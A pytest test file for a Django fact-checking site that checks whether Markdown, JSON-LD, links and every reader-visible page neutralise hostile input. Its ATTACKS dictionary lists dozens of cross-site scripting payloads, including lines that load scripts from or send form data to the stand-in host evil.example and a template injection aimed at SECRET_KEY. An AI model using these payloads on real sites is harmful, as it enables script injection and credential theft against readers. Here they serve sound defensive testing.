"""Hostile words in every place where readers see what others have written: nothing of them comes alive.

Markdown is the one format that becomes markup. All other text is escaped. The pages forbid scripts besides, so this is
the first of two walls.
"""

import html
import re
from html.parser import HTMLParser

import pytest
from django.test import Client

from articles.models import Article, Passage, Publisher
from claims import models
from claims.templatetags import crosscheck
from tests.claims.views.world import correct
from tests.factories import (
    AppearanceFactory,
    ArticleFactory,
    ClaimFactory,
    ContradictionFactory,
    EventFactory,
    EvidenceFactory,
    MembershipFactory,
    PositionFactory,
    PublisherFactory,
    RatingFactory,
    ReplyRequestFactory,
    SourceFactory,
    TopicFactory,
    UserFactory,
    VerdictFactory,
    VersionFactory,
    publish,
)

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "script cut in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image with a handler": '<img src=x onerror="alert(1)">',
    "image without quotes": "<img src=x onerror=alert(1)//",
    "body": "<body onload=alert(1)>",
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": '<embed src="//evil.example/x.swf">',
    "SVG with a script": "<svg><script>alert(1)</script></svg>",
    "SVG that loads": "<svg onload=alert(1)>",
    "SVG animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "SVG link": '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "SVG set": '<svg><a><set attributeName="href" to="javascript:alert(1)"/>x</a></svg>',
    "SVG foreign object": "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "SVG style": "<svg><style>@import'//evil.example/x.css'</style></svg>",
    "SVG as a picture": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "MathML": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "style element": "<style>*{background:url(//evil.example)}</style>",
    "style attribute": '<p style="position:fixed;inset:0">x</p>',
    "form": '<form action="//evil.example"><input name=password><button>Log in</button></form>',
    "base": '<base href="//evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "link element": '<link rel=stylesheet href="//evil.example/x.css">',
    "comment": "<!--><script>alert(1)</script>-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "out of a title": "</title><script>alert(1)</script>",
    "out of a text field": "</textarea><script>alert(1)</script>",
    "out of an attribute": '"><script>alert(1)</script>',
    "a handler for an attribute": '" onmouseover="alert(1)" x="',
    "a handler for a single quote": "' onmouseover='alert(1)",
    "out of JSON": "</script><script>alert(1)</script>",
    "JavaScript link": "[x](javascript:alert(1))",
    "JavaScript link in capitals": "[x](JaVaScRiPt:alert(1))",
    "JavaScript link with an entity": "[x](javascript&colon;alert(1))",
    "JavaScript link with a tab": "[x](java&Tab;script:alert(1))",
    "JavaScript link in angles": "[x](<javascript:alert(1)>)",
    "JavaScript by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "JavaScript autolink": "<javascript:alert(1)>",
    "VBScript link": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a handler in a link's title": '[x](https://a.example "onmouseover=alert(1)")',
    "an attribute in a link": '[x](https://a.example/"onmouseover="alert(1))',
    "a picture that counts readers": "![x](https://tracker.example/pixel.png)",
    "markup in code": "`<script>alert(1)</script>`",
    "markup in a fence": "```html\n<script>alert(1)</script>\n```",
    "a fence with a handler": '```"onmouseover="alert(1)\nx\n```',
    "template tags": "{% load static %}{{ settings.SECRET_KEY }}{% debug %}",
    "nothing and other controls": "<scr\x00ipt>alert(1)</scr\x00ipt>".replace("\x00", "\x0b"),
    "text that turns round": "\u202e<script>\u202c",
}
DEAD = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "textarea", "base", "meta", "link",
    "svg", "math", "img", "video", "audio", "template", "noscript", "body", "html", "animate", "set", "foreignobject",
}  # fmt: skip
"""Elements that no text may bring into a page."""


class Elements(HTMLParser):
    """Every element of a page with its attributes, as a browser reads them."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def live(page: str) -> list[str]:
    """What of a page would do something that nobody of ours wrote."""
    wrong = []
    for tag, attributes in Elements(page).found:
        wrong += [f"<{tag} {name}>" for name in attributes if name.startswith("on") or name == "style"]
        for name in ("href", "src", "action", "xlink:href", "formaction"):
            address = re.sub(r"[\x00-\x20]", "", attributes.get(name, "")).lower()
            if re.match(r"(javascript|vbscript|data):|(https?:)?//evil\.example", address):
                wrong.append(f"<{tag} {name}={address[:40]}>")
            if name == "src" and address.startswith(("http", "//")):
                wrong.append(f"<{tag} src={address[:40]}>")
    return wrong


def test_what_counts_as_live() -> None:
    """The test's own eye: it sees what it is to see."""
    assert live('<p onclick="x">') == ["<p onclick>"]
    assert live('<a href="java\tscript:x">') == ["<a href=javascript:x>"]
    assert live('<img src="//evil.example">')
    assert live('<p style="x"><a href="https://a.example">onclick=x</a>') == ["<p style>"]


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_markdown(attack: str) -> None:
    made = crosscheck.markdown(attack)
    assert live(made) == []
    assert {tag for tag, _ in Elements(made).found} & DEAD == set()
    assert {name for _, attributes in Elements(made).found for name in attributes} <= {"href", "rel"}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_markdown_within_other_markdown(attack: str) -> None:
    for around in ("# {}", "- {}", "> {}", "*{}*", "| a |\n|---|\n| {} |", "[{}](https://a.example)"):
        assert live(crosscheck.markdown(around.format(attack))) == []


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_data_for_search_engines(attack: str) -> None:
    made = crosscheck.json_ld({attack: [attack]})
    body = made.removeprefix('<script type="application/ld+json">').removesuffix("</script>")
    assert not set(body) & set("<>&")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_addresses(attack: str) -> None:
    for address in (attack, f"https://a.example/{attack}"):
        for made in (crosscheck.web_url(address), crosscheck.at_quote(address, attack)):
            assert not made or made.startswith("https://a.example/")


ESCAPED = (
    "script in capitals", "image with a handler", "frame with a document", "SVG animation", "out of a title",
    "out of an attribute", "a handler for a single quote", "out of JSON", "JavaScript link", "template tags",
    "text that turns round", "comment",
)  # fmt: skip
"""One for each way out of where a text stands. The rest are ways through Markdown."""


@pytest.mark.django_db
@pytest.mark.parametrize("attack", [ATTACKS[name] for name in ESCAPED], ids=ESCAPED)
def test_every_field_that_a_reader_sees(client: Client, attack: str) -> None:
    for url in hostile_world(attack):
        answer = client.get(url)
        page = answer.content.decode()
        assert answer.status_code in {200, 400, 404, 410}, url
        assert live(page) == [], url
        scripts = [attributes for tag, attributes in Elements(page).found if tag == "script"]
        assert all(set(attributes) <= {"type", "src", "defer"} for attributes in scripts), url
        assert all("src" in attributes or attributes["type"] == "application/ld+json" for attributes in scripts), url


def hostile_world(attack: str) -> list[str]:
    """A site on which every text that a reader sees is `attack`; the addresses of its pages."""
    short = attack[:75]
    desk = PublisherFactory.create(kind=Publisher.Kind.OWN, name=attack[:200], url="javascript:alert(1)", about=attack)
    rating = RatingFactory.create(
        scale__publisher=desk, scale__name=attack[:80], name=attack[:30], slug="false", definition=attack
    )
    source = SourceFactory.create(name=attack[:200])
    event = EventFactory.create(
        title=attack, place=attack[:100], body=attack[:100], participants=[attack], sponsors=[attack]
    )
    models.EventIdentifier.objects.create(event=event, value=short)
    version = VersionFactory.create(
        text=f"{attack} was said.", title=attack,
        article=ArticleFactory.create(
            publisher=desk, title=attack, byline=attack, note=attack, url="javascript:alert(1)"
        ),
    )  # fmt: skip
    Passage.objects.create(version=version, kind="post", start=0, end=len(attack), author=attack[:100], title=attack)
    claim = ClaimFactory.create(text=attack, short_text=short, event=event)
    topic = TopicFactory.create(name=attack[:80])
    models.ClaimTopic.objects.create(claim=claim, topic=topic)
    said = AppearanceFactory.create(claim=claim, version=version, quote=attack, source=source)
    models.RollCallVote.objects.create(
        event=event, state=source, choice="yes", evidence=EvidenceFactory.create(title=attack, quote=attack)
    )
    author = UserFactory.create(first_name=attack[:100], last_name=attack[:100])
    verdict = VerdictFactory.create(
        claim=claim, publisher=desk, rating=rating, headline=attack, summary=attack, body=attack, author=author
    )
    ReplyRequestFactory.create(verdict=verdict, party=attack)
    correct(publish(verdict), reason=attack)
    contradiction = ContradictionFactory.create(event=event, question=attack, explanation=attack)
    position = PositionFactory.create(contradiction=contradiction, event=event, answer=attack)
    MembershipFactory.create(position=position, appearance=said)
    models.ContradictionEvidence.objects.create(
        contradiction=contradiction, supports=position, note=attack, attached_by=author,
        evidence=EvidenceFactory.create(title=attack, quote=attack, url="javascript:alert(1)", archive_url=""),
    )  # fmt: skip
    typed = html.escape(attack)
    records: list[models.Claim | models.Contradiction | models.Event | Article] = [
        claim, contradiction, event, version.article,
    ]  # fmt: skip
    return [
        "/", "/claims/", "/contradictions/", "/about/", "/methodology/", "/corrections/",
        *(record.get_absolute_url() for record in records),
        f"/claims/?q={typed}", f"/report/?url={typed}", f"/nowhere/{typed}", f"/corrections/?kind={typed}",
    ]  # fmt: skip
